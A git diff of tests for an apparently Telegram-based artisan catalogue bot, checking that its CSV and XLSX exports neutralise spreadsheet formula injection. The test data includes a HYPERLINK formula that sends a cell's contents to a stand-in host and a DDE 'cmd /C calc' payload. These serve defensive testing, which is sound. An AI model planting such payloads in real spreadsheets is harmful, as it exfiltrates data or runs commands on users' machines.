@@ -15,18 +15,25 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from sqlalchemy import update
+from sqlalchemy import select, update
 
 from bot.cli_catalogue import export_command
 from bot.config import Settings
 from bot.context import BotApp, services_of
-from bot.fake_telegram import FakeTelegram
+from bot.fake_telegram import FakeTelegram, FakeUser
 from bot.handlers.catalogue import photo_worker
-from bot.services.catalogue import COLUMNS, ExportQuery, ExportResult, export_catalogue, zip_parts
-from bot.storage.models import State, Submission
-from tests.catalogue_helpers import Sessions, approved_product, photos_of, submission_id
+from bot.services.catalogue import ExportQuery, ExportResult, export_catalogue
+from bot.services.catalogue_files import COLUMNS, zip_parts
+from bot.storage.models import Artisan, State, Submission
+from tests.catalogue_helpers import (
+    Sessions,
+    approve,
+    approved_product,
+    photos_of,
+    submission_id,
+)
 from tests.conftest import ADMIN_ID, REVIEWER_ID
-from tests.journey import phone_of
+from tests.journey import consent, phone_of
 
 
 async def export(bot: BotApp, out: Path, fmt: str, **query: Any) -> ExportResult:
@@ -47,9 +54,12 @@ def read_csv(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
 
 
 def as_cells(record: dict[str, Any]) -> dict[str, str]:
-    """A JSON record in the CSV's shape: photos in columns, None as an empty cell."""
+    """A JSON record in the CSV's shape: photos in columns, None as an empty cell, and the
+    phone +919876512345 grouped and behind the formula guard as '+91 98765 12345."""
     photos = record.pop("photos")
     cells = {k: "" if v is None else str(v) for k, v in record.items()}
+    phone = cells["mobile"]
+    cells["mobile"] = f"'{phone[:3]} {phone[3:8]} {phone[8:]}"
     cells.update({f"photo_{n}": "" for n in range(1, 6)})
     cells.update({f"photo_{n}": path for n, path in enumerate(photos, 1)})
     return cells
@@ -214,3 +224,88 @@ def test_photo_zips_are_split_under_the_upload_limit(tmp_path: Path) -> None:
     assert len(parts) == 3 and all(p.stat().st_size < 9000 for p in parts)
     names = [name for p in parts for name in zipfile.ZipFile(p).namelist()]
     assert names == [f"photos/ODOP-000001/{n}.jpg" for n in range(1, 6)]
+
+
+FORMULA = '=HYPERLINK("http://x"&D2,"photos")'
+
+
+async def register_with(artisan: FakeUser, name: str, product: str, description: str) -> str:
+    """A registration typed by someone who knows spreadsheets; returns the reference."""
+    await consent(artisan)
+    await artisan.send(name)
+    await artisan.share_contact(phone_of(artisan))
+    await artisan.send("Gorakhpur")
+    await artisan.press("टेराकोटा")
+    await artisan.send(product)
+    await artisan.send(description)
+    await artisan.send("1200")
+    await artisan.press("छोड़ें")
+    await artisan.send_photo()
+    await artisan.press("हो गया")
+    await artisan.press("जमा करें")
+    text = artisan.last_text
+    return text[text.index("ODOP-") :][:11]
+
+
+async def test_artisan_typing_a_formula_gets_text_cells_in_csv_and_xlsx(
+    fake: FakeTelegram, bot: BotApp, db: Sessions, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    artisan = fake.user()
+    description = "@SUM(1+1)*cmd|' /C calc'!A0 मिट्टी का हाथी"
+    ref = await register_with(artisan, "-Sunita Devi", FORMULA, description)
+    await approve(db, ref)
+    await export(bot, tmp_path / "csv", "csv")
+    await export(bot, tmp_path / "xlsx", "xlsx")
+
+    phone = phone_of(artisan)
+    grouped = f"{phone[:3]} {phone[3:8]} {phone[8:]}"
+    for name, encoding in (("catalogue.csv", "utf-8"), ("catalogue_excel.csv", "utf-8-sig")):
+        [row] = read_csv(tmp_path / "csv" / name, encoding)
+        assert row["product_name"] == "'" + FORMULA
+        assert row["description"] == "'" + description
+        assert row["artisan_name"] == "'-Sunita Devi"
+        assert row["mobile"] == "'" + grouped  # reads as a phone, and is no formula
+        assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
+
+    sheet = load_workbook(tmp_path / "xlsx" / "catalogue.xlsx")["catalogue"]
+    header = [cell.value for cell in sheet[1]]
+    cells = {name: cell for name, cell in zip(header, sheet[2], strict=False)}
+    for name, value in (
+        ("product_name", FORMULA),
+        ("description", description),
+        ("artisan_name", "-Sunita Devi"),
+        ("mobile", grouped),
+    ):
+        assert (cells[name].value, cells[name].data_type) == (value, "s"), name
+        assert cells[name].quotePrefix, name
+    assert not [c for c in sheet.iter_rows() for cell in c if cell.data_type == "f"]
+    assert (cells["reference"].value, cells["price"].value) == (ref, 1200)
+
+
+async def test_export_keeps_the_approved_name_after_the_artisan_renames_in_a_new_draft(
+    fake: FakeTelegram, bot: BotApp, db: Sessions, tmp_path: Path
+) -> None:
+    artisan, ref = await approved_product(fake, db)
+    await artisan.send("/start")
+    await artisan.press("नया उत्पाद")
+    for _ in range(3):  # craft -> district -> phone -> name
+        await artisan.press("पीछे")
+    await artisan.send("रमा कुमारी")
+    assert "चरण 3/8" in artisan.last_text
+    async with db() as session:
+        renamed = await session.scalar(
+            select(Artisan.name).where(Artisan.telegram_id == artisan.id)
+        )
+    assert renamed == "रमा कुमारी"
+
+    await export(bot, tmp_path / "approved", "json")
+    [record] = json.loads((tmp_path / "approved" / "catalogue.json").read_text(encoding="utf-8"))
+    assert (record["reference"], record["artisan_name"]) == (ref, "सुनीता देवी")
+    assert record["mobile"] == phone_of(artisan)
+    admin = fake.user(ADMIN_ID, language_code="en")
+    await admin.send(f"/listed {ref} https://example.com/p/1", expect=1)
+    await export(bot, tmp_path / "listed", "csv", state=State.LISTED)
+    [row] = read_csv(tmp_path / "listed" / "catalogue.csv")
+    assert (row["reference"], row["artisan_name"]) == (ref, "सुनीता देवी")
